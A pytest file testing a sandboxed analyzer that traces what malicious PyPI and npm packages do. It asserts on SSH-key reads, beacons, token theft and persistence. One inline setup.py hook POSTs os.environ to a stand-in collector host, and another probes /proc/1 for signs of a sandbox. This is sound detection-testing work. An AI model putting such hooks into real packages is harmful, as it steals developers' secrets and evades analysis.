"""End-to-end analyses in the real gVisor sandbox: the trace must show what packages do."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from analyzer.cli import main
from analyzer.result_codec import result_from_dict, result_to_dict
from analyzer.sandbox.daemon import connect
from analyzer.sandbox.host import CONTAINER_LABEL, state_dir

pytestmark = pytest.mark.sandbox


def analyze_json(capsys: pytest.CaptureFixture[str], *args: str) -> dict[str, Any]:
    assert main(["analyze", *args, "--json"]) == 0
    document: dict[str, Any] = json.loads(capsys.readouterr().out)
    # Every real sandbox result goes through the codec both ways unchanged.
    assert result_to_dict(result_from_dict(document)) == document
    return document


def argvs(phase: dict[str, Any]) -> list[list[str]]:
    return [p["argv"] for p in phase["processes"] if p["ok"]]


def is_home_file(path: str, relative: str) -> bool:
    """`path` is `relative` in the home of the run's user (a different name each run)."""
    parts = path.split("/", 3)
    return len(parts) == 4 and parts[:2] == ["", "home"] and parts[3] == relative


def leftover_containers(package: str) -> list[str]:
    """Sandbox containers of this package still there (other analyses may run meanwhile)."""
    wanted = {"label": f"{CONTAINER_LABEL}={package}"}
    return [c.id for c in connect().containers.list(all=True, filters=wanted)]


def test_pypi_install_behaviour_is_traced_to_the_install_phase(
    package_factory: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    result = analyze_json(capsys, str(package_factory("pypi-install-recon")))

    assert result["package"]["name"] == "recon-pkg"
    assert result["verdict"] == "malicious"
    fired = {(f["rule"], f["phase"]) for f in result["findings"]}
    assert ("secret-store-read", "install") in fired
    install, imported = result["phases"]["install"], result["phases"]["import"]
    assert install["status"] == "completed", install["output_tail"]
    assert imported["status"] == "completed", imported["output_tail"]
    assert result["phases"]["execute"]["status"] == "completed"

    key_reads = [f for f in install["files"] if is_home_file(f["path"], ".ssh/id_rsa")]
    assert key_reads and key_reads[0]["access"] == "read"
    assert ["sh", "-c", "id"] in argvs(install)
    assert ["id"] in argvs(install)
    dials = [c for c in install["network"]["connections"] if c["address"] == "203.0.113.5"]
    assert dials and dials[0]["port"] == 443 and dials[0]["protocol"] == "tcp"
    assert "203.0.113.5" in result["iocs"]["ips"]

    # None of it is attributed to the import phase, which has its own write.
    assert not [c for c in imported["network"]["connections"] if c["address"] == "203.0.113.5"]
    assert any(f["path"] == "/tmp/recon-pkg-imported" and f["access"] == "write"
               for f in imported["files"])
    # The install wrote the package into the virtualenv.
    assert any("site-packages/recon_pkg" in f["path"] and f["access"] == "write"
               for f in install["files"])
    assert result["trace"]["syscall_lines"] > 0
    assert install["resources"]["peak_memory_mb"] is not None
    assert leftover_containers("recon-pkg") == []


def test_npm_postinstall_behaviour_is_traced(
    package_factory: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    result = analyze_json(capsys, str(package_factory("npm-install-recon")))

    assert result["package"]["ecosystem"] == "npm"
    install, imported = result["phases"]["install"], result["phases"]["import"]
    assert install["status"] == "completed", install["output_tail"]
    assert imported["status"] == "completed", imported["output_tail"]
    assert ["sh", "-c", "id"] in argvs(install) or ["/bin/sh", "-c", "sh -c id"] in argvs(install)
    assert any(is_home_file(f["path"], ".ssh/id_rsa") for f in install["files"])
    assert any(c["address"] == "203.0.113.5" and c["port"] == 443
               for c in install["network"]["connections"])
    assert any(f["path"] == "/tmp/recon-npm-imported" for f in imported["files"])


def test_a_hanging_import_times_out_and_still_gives_a_result(
    package_factory: Any, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    out = tmp_path / "out"
    containers_before = {path.name for path in (state_dir() / "traces").glob("*")}
    result = analyze_json(capsys, str(package_factory("pypi-import-hang")),
                          "--import-timeout", "5", "--execute-timeout", "3", "--out", str(out))

    assert result["phases"]["install"]["status"] == "completed"
    imported = result["phases"]["import"]
    assert imported["status"] == "timeout"
    assert imported["exit_code"] is None
    assert 4.5 <= imported["duration_s"] < 30
    assert result["phases"]["execute"]["status"] == "timeout"
    assert json.loads((out / "result.json").read_text()) == result
    assert list((out / "trace").glob("*.boot.txt"))
    assert leftover_containers("hang-pkg") == []
    # The run's own trace folder is gone (other analyses may run beside this test).
    kept = {path.name for path in (out / "trace").glob("*")}
    assert kept
    left = {path.name for path in (state_dir() / "traces").glob("*/*")} - containers_before
    assert not kept & left


def test_a_daemon_that_is_down_is_one_line_and_exit_2(
    package_factory: Any, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    monkeypatch.setenv("PKGSANDBOX_DOCKER_HOST", f"unix://{tmp_path}/no-daemon.sock")

    assert main(["analyze", str(package_factory("pypi-install-recon"))]) == 2
    assert "is not running (no socket)" in capsys.readouterr().err
    monkeypatch.setenv("PKGSANDBOX_DOCKER_HOST", "tcp://127.0.0.1:9")  # nothing listens there
    assert main(["analyze", str(package_factory("pypi-install-recon"))]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert err[-1].startswith("pkgsandbox: error: the Docker daemon at tcp://127.0.0.1:9 ")
    assert "Traceback" not in "\n".join(err)


def test_a_harmless_wheel_is_benign(package_factory: Any,
                                    capsys: pytest.CaptureFixture[str]) -> None:
    result = analyze_json(capsys, str(package_factory("pypi-small", "wheel")))

    assert result["verdict"] == "benign", result["findings"]
    assert {p["status"] for p in result["phases"].values()} == {"completed"}
    assert "called small_pkg.greet: ok" in result["phases"]["execute"]["output_tail"]


@pytest.mark.network
def test_requests_from_pypi_installs_and_imports(capsys: pytest.CaptureFixture[str]) -> None:
    result = analyze_json(capsys, "pypi:requests==2.32.3")

    assert result["package"]["version"] == "2.32.3"
    install, imported = result["phases"]["install"], result["phases"]["import"]
    assert install["status"] == "completed", install["output_tail"]
    assert imported["status"] == "completed", imported["output_tail"]
    written = [f["path"] for f in install["files"] if f["access"] == "write"]
    assert any("site-packages/requests/__init__.py" in path for path in written)
    # Its dependencies came from the host as wheels (the venv already has them, as a
    # developer's usually does, so pip may keep those).
    assert {"urllib3", "idna", "certifi", "charset-normalizer"} <= {
        d["name"].lower() for d in result["dependencies"]}
    assert "imported requests" in imported["output_tail"]
    assert result["verdict"] == "benign", result["findings"]


def test_a_zip_wheel_named_tar_gz_is_analysed_and_the_lie_noted(
    package_factory: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    wheel = package_factory("pypi-exfil-https", "wheel")
    lying = wheel.with_name(wheel.name[: -len(".whl")] + ".tar.gz")
    wheel.rename(lying)
    result = analyze_json(capsys, str(lying))

    assert result["package"]["filename"] == wheel.name
    assert "content is a zip archive" in result["metadata"]["archive_mismatch"]
    assert result["phases"]["install"]["status"] == "completed"
    assert result["verdict"] == "malicious"
    assert any(leak["token"] == "ssh-private-key"
               for leak in result["phases"]["execute"]["leaks"])


def test_a_module_whose_name_is_no_identifier_is_imported_and_called(
    package_factory: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    result = analyze_json(capsys, str(package_factory("pypi-dashed-module", "wheel")))

    assert "imported my-pkg" in result["phases"]["import"]["output_tail"]
    execute = result["phases"]["execute"]
    posts = [r for r in execute["network"]["http"] if r["method"] == "POST"]
    assert posts and posts[0]["host"] == "sync-collector.example"
    assert any(leak["channel"] == "http" for leak in execute["leaks"])
    assert result["verdict"] == "malicious"


def test_a_full_disk_for_out_still_prints_the_result(
    package_factory: Any, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    import os
    import subprocess

    full = tmp_path / "full"
    full.mkdir()
    if os.geteuid() != 0 or subprocess.run(
            ["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(full)],
            capture_output=True, check=False).returncode != 0:
        pytest.skip("mounting a small tmpfs needs root")
    try:
        (full / "filler").write_bytes(b"f" * 60 * 1024)  # what is left holds no result
        code = main(["analyze", str(package_factory("pypi-small")), "--json",
                     "--out", str(full / "kept")])
        captured = capsys.readouterr()
        leftovers = sorted(str(p.relative_to(full)) for p in full.rglob("*") if p.is_file())
    finally:
        subprocess.run(["umount", str(full)], check=False)
    assert code == 2
    assert json.loads(captured.out)["verdict"] in ("benign", "suspicious", "malicious")
    assert captured.err.strip().splitlines()[-1].startswith(
        f"pkgsandbox: error: cannot write {full / 'kept'}")
    assert "Traceback" not in captured.err
    assert leftovers == ["filler"]


def test_a_preinstall_nslookup_beacon_runs_and_is_seen(
    package_factory: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    result = analyze_json(capsys, str(package_factory("npm-nslookup-beacon")))

    install = result["phases"]["install"]
    assert any(argv[:1] == ["nslookup"] for argv in argvs(install)), install["output_tail"]
    names = [q["name"] for q in install["network"]["dns"]]
    assert any(name.endswith(".dnslog-probe.example") for name in names)
    assert "not found" not in install["output_tail"]
    assert result["verdict"] == "malicious"
    assert "host-identity-sent" in {f["rule"] for f in result["findings"]}


def test_the_tools_a_developer_has_are_on_path(
    package_factory: Any, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """`py`, `python`, `dig`, `host`, `ping` and `nslookup` answer instead of 'not found';
    PID 1's command line and environment do not give the sandbox away."""
    source = tmp_path / "tools-probe"
    source.mkdir()
    (source / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: tools-probe\nVersion: 0.1\n")
    (source / "setup.py").write_text(
        "import shutil, subprocess\nfrom setuptools import setup\n"
        "missing = [t for t in ('py', 'python', 'python3', 'dig', 'host', 'ping', 'nslookup')"
        " if shutil.which(t) is None]\n"
        "subprocess.run(['py', '-3', '-c', 'print(1)'], check=True)\n"
        "assert not missing, missing\n"
        "# PID 1 looks like an init, not like our driver\n"
        "init = open('/proc/1/cmdline', 'rb').read()\n"
        "assert b'pkgsandbox' not in init and b'driver' not in init, init\n"
        "try:\n    environ = open('/proc/1/environ', 'rb').read()\n"
        "except OSError:\n    environ = b''\n"
        "assert environ == b'', environ\n"
        "setup(name='tools-probe', version='0.1')\n")
    from tests.packages import build_sdist

    result = analyze_json(capsys, str(build_sdist(source, tmp_path)))
    install = result["phases"]["install"]
    assert install["status"] == "completed", install["output_tail"]


def test_a_dependency_nobody_has_does_not_stop_the_payload(
    package_factory: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    """A setup.py-only sdist whose install_requires no index has: installed again without
    dependencies, imported, and its POST of the environment seen."""
    result = analyze_json(capsys, str(package_factory("pypi-missing-dependency")))

    install = result["phases"]["install"]
    assert install["status"] == "completed", install["output_tail"]
    assert any(item.startswith("installed without dependencies (missing: "
                               "pkgsandbox-absent-dependency-zq93")
               for item in install["forced"]), install["forced"]
    assert any(d["name"] == "pkgsandbox-absent-dependency-zq93" and d["missing_reason"]
               for d in result["dependencies"])
    imported = result["phases"]["import"]
    assert any(leak["channel"] == "http" for leak in imported["leaks"]), imported["output_tail"]
    assert result["verdict"] == "malicious"


def test_an_npm_dependency_nobody_has_does_not_stop_the_postinstall(
    package_factory: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    result = analyze_json(capsys, str(package_factory("npm-missing-dependency")))

    install = result["phases"]["install"]
    assert install["status"] == "completed", install["output_tail"]
    assert any(item.startswith("installed without dependencies") for item in install["forced"])
    assert any(leak["channel"] == "http" for leak in install["leaks"]), install["output_tail"]
    assert result["verdict"] == "malicious"


def test_the_code_after_a_failed_import_runs_with_stand_ins(
    package_factory: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    result = analyze_json(capsys, str(package_factory("pypi-missing-import", "wheel")))

    imported = result["phases"]["import"]
    assert "imported missing_import_pkg with stand-ins" in imported["output_tail"]
    assert "pkgsandbox_never_installed_zq" in imported["forced"]
    assert "pkgsandbox_never_installed_zq.Client" in imported["forced"]
    assert any(leak["channel"] == "http" for leak in imported["leaks"]), imported["output_tail"]
    assert result["verdict"] == "malicious"


def test_a_windows_only_stealer_is_caught_by_the_persona_pass(
    package_factory: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    result = analyze_json(capsys, str(package_factory("pypi-windows-stealer", "wheel")))

    for linux in ("install", "import", "execute"):
        assert not result["phases"][linux]["leaks"], linux  # on Linux it does nothing
    persona = result["phases"]["persona"]
    assert persona["status"] == "completed", persona["output_tail"]
    assert "persona:windows" in persona["forced"]
    assert any(item.startswith("ctypes.windll") for item in persona["forced"])
    assert any(leak["token"] == "discord-token" for leak in persona["leaks"]), \
        persona["output_tail"]
    assert any("AppData/Roaming/discord" in f["path"] for f in persona["files"])
    assert result["verdict"] == "malicious"
    assert "persona" in {f["phase"] for f in result["findings"]}


def test_an_npm_postinstall_gated_on_windows_runs_in_the_persona_pass(
    package_factory: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    result = analyze_json(capsys, str(package_factory("npm-windows-postinstall")))

    assert not result["phases"]["install"]["leaks"]
    persona = result["phases"]["persona"]
    assert "ran postinstall as if on Windows" in persona["output_tail"]
    assert any(leak["token"] == "discord-token" for leak in persona["leaks"]), \
        persona["output_tail"]
    assert result["verdict"] == "malicious"


def test_a_sandbox_that_dies_of_its_memory_keeps_the_evidence(
    package_factory: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    """Stealing, then filling the in-memory home until the sandbox is killed: what it did
    before it died was already on the host's disk, and convicts it."""
    result = analyze_json(capsys, str(package_factory("pypi-memory-bomb")), "--memory", "384")

    install = result["phases"]["install"]
    assert install["status"] == "error"
    assert any(leak["channel"] == "http" for leak in install["leaks"]), result["notes"]
    assert any("ran out of memory during the install phase" in note
               for note in result["notes"]), result["notes"]
    assert result["phases"]["import"]["status"] == "skipped"
    assert result["verdict"] == "malicious"


def test_a_setup_script_gated_on_windows_runs_in_the_persona_pass(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """The sdist is unpacked with the sandbox's own Python (Debian's 3.11.2) and its
    setup.py's command class runs as if on Windows."""
    source = tmp_path / "wingate-setup"
    source.mkdir()
    (source / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: wingate-setup\nVersion: 0.1\n")
    (source / "setup.py").write_text(
        "import json, os, urllib.request\nfrom setuptools import setup\n"
        "from setuptools.command.install import install\n\n\nclass Hook(install):\n"
        "    def run(self):\n        install.run(self)\n        if os.name == 'nt':\n"
        "            urllib.request.urlopen(urllib.request.Request('https://win.collector."
        "example/x', data=json.dumps(dict(os.environ)).encode(), method='POST'), timeout=5)\n\n\n"
        "setup(name='wingate-setup', version='0.1', cmdclass={'install': Hook})\n")
    from tests.packages import build_sdist

    result = analyze_json(capsys, str(build_sdist(source, tmp_path)))
    persona = result["phases"]["persona"]
    assert "ran the install command as if on Windows" in persona["output_tail"], \
        persona["output_tail"]
    assert any(leak["channel"] == "http" for leak in persona["leaks"])
    assert not result["phases"]["install"]["leaks"]
    assert result["verdict"] == "malicious"


def test_sigterm_mid_phase_leaves_no_container_and_no_folder_behind(
        package_factory: Any, tmp_path: Path) -> None:
    artifact = package_factory("pypi-import-hang")
    scratch = tmp_path / "scratch"  # the run's temporary folders: spec (CA key), out, work
    scratch.mkdir()
    process = subprocess.Popen(
        [sys.executable, "-m", "analyzer.cli", "analyze", str(artifact), "--import-timeout", "300"],
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
        env={**os.environ, "TMPDIR": str(scratch)}, cwd=Path(__file__).resolve().parents[2])
    watchdog = threading.Timer(240, process.kill)
    watchdog.start()
    try:
        assert process.stderr is not None
        for progress in process.stderr:  # the driver's progress, read as the run goes
            if progress.strip() == "pkgsandbox: import phase":
                break
        running = leftover_containers("hang-pkg")
        assert running, "the import phase runs in a container"
        process.send_signal(signal.SIGTERM)
        assert process.wait(timeout=30) == 143
    finally:
        watchdog.cancel()
        if process.stderr is not None:
            process.stderr.close()
    assert leftover_containers("hang-pkg") == []
    assert list(scratch.iterdir()) == []
    assert not any((state_dir() / "traces" / container).exists() for container in running)


def test_a_start_sweeps_what_a_killed_predecessor_left(tmp_path: Path) -> None:
    from analyzer.models import Ecosystem
    from analyzer.sandbox.images import image_name
    from analyzer.sandbox.sweep import OWNER_LABEL, STALE_AFTER_S, owner_tag, sweep

    gone = subprocess.Popen([sys.executable, "-c", "pass"])  # an owner that has ended
    gone.wait()
    dead_owner = f"{owner_tag().split(':')[0]}:{gone.pid}:{time.time() - 5:.2f}"
    client = connect()

    def sandbox(owner: str) -> Any:
        return client.containers.create(
            image_name(Ecosystem.PYPI), command=["sleep", "600"], runtime="pkgsandbox-runsc",
            network_mode="none", labels={CONTAINER_LABEL: "sweep-pkg", OWNER_LABEL: owner})

    abandoned, mine = sandbox(dead_owner), sandbox(owner_tag())
    stale, fresh = tmp_path / "pkgsandbox-spec-abcd1234", tmp_path / "pkgsandbox-out-wxyz9876"
    for folder in (stale, fresh):
        folder.mkdir()
        (folder / "spec.json").write_text("{}")
    os.utime(stale, (time.time() - STALE_AFTER_S - 60,) * 2)
    try:
        swept = sweep(client, temp=tmp_path)
        assert abandoned.id in swept.containers and mine.id not in swept.containers
        assert leftover_containers("sweep-pkg") == [mine.id]
        assert swept.folders == (stale.name,) and fresh.exists() and not stale.exists()
    finally:
        for container in (abandoned, mine):
            with contextlib.suppress(Exception):
                container.remove(force=True)


def test_no_user_namespace_and_no_packet_or_raw_socket_inside_the_sandbox(
        package_factory: Any, capsys: pytest.CaptureFixture[str]) -> None:
    # A user namespace would hand the package every capability in it, and a packet
    # socket there would let it sniff and forge the simulator's loopback traffic.
    result = analyze_json(capsys, str(package_factory("pypi-namespace-probe")))
    tail = result["phases"]["import"]["output_tail"]
    for probe in ("userns", "packet", "raw"):
        assert f"PROBE {probe}: denied" in tail, tail
    assert "PROBE thread: ran" in tail  # threads still start
    # The control: gVisor alone (no seccomp profile) allows both to an unprivileged user,
    # so what refuses them above is the profile.
    from analyzer.models import Ecosystem
    from analyzer.sandbox.host import RUNTIME
    from analyzer.sandbox.images import image_name

    probe = (Path(__file__).resolve().parents[1] / "data" / "packages" / "pypi-namespace-probe"
             / "ns_probe" / "__init__.py").read_text()
    control = connect().containers.run(
        image_name(Ecosystem.PYPI), ["python3", "-c", probe], runtime=RUNTIME,
        network_mode="none", user="1000:1000", security_opt=["seccomp=unconfined"],
        remove=True, labels={CONTAINER_LABEL: "ns-probe-control"}).decode()
    assert "PROBE userns: allowed" in control and "PROBE packet: allowed" in control


def test_a_setup_py_that_dies_on_linux_still_gets_its_windows_pass(
        package_factory: Any, capsys: pytest.CaptureFixture[str]) -> None:
    # The install fails (no %APPDATA% on Linux): import and execute have nothing to run,
    # but the persona re-runs setup.py as on Windows, where it plants its batch file.
    result = analyze_json(capsys, str(package_factory("pypi-windows-gated-setup")))
    phases = result["phases"]
    assert phases["install"]["status"] == "error"
    assert phases["import"]["status"] == phases["execute"]["status"] == "skipped"
    assert phases["persona"]["status"] != "skipped"
    planted = [f["path"] for f in phases["persona"]["files"] if f["access"] == "write"]
    assert any(p.endswith("/Start Menu/Programs/Startup/updater.bat") for p in planted), planted
    assert {"rule": "autostart-persistence", "phase": "persona"} in [
        {"rule": f["rule"], "phase": f["phase"]} for f in result["findings"]]


def test_newlines_escapes_and_bad_utf8_in_paths_do_not_hide_the_reads(
        package_factory: Any, capsys: pytest.CaptureFixture[str]) -> None:
    # Each byte that could split, colour or end a trace line sits in a folder name on the
    # way to a credential file: every read is still seen, resolved to the file itself, and
    # each folder is kept under its own name, with no raw escape byte left in it.
    result = analyze_json(capsys, str(package_factory("pypi-odd-path-reads")))
    files = result["phases"]["import"]["files"]
    reads = [f["path"] for f in files if f["access"] == "read" and f["ok"]]
    for secret in (".aws/credentials", ".ssh/id_rsa", ".git-credentials"):
        assert any(is_home_file(path, secret) for path in reads), (secret, reads)
    folders = [f["path"].rsplit("/", 1)[1] for f in files if f["access"] == "mkdir"]
    assert ".c\n" in folders and '.q"\\' in folders, folders
    assert any(name.startswith(".") and "[2J" in name and "\x1b" not in name
               for name in folders), folders
    assert result["trace"]["unparsed_lines"] == 0, result["trace"]["unparsed_samples"]
    assert result["verdict"] == "malicious"


def test_a_trace_flood_is_bounded_with_a_note_and_the_read_after_it_is_kept(
        package_factory: Any, capsys: pytest.CaptureFixture[str]) -> None:
    from analyzer.trace.condense import MAX_FILE_EVENTS

    result = analyze_json(capsys, str(package_factory("pypi-trace-flood")),
                          "--import-timeout", "120")
    files = result["phases"]["import"]["files"]
    assert len(files) <= MAX_FILE_EVENTS
    assert any(note.startswith("import: ") and "file events were traced, more than" in note
               for note in result["notes"]), result["notes"]
    assert any(is_home_file(f["path"], ".ssh/id_rsa") and f["ok"] for f in files)
    assert "secret-store-read" in {f["rule"] for f in result["findings"]}
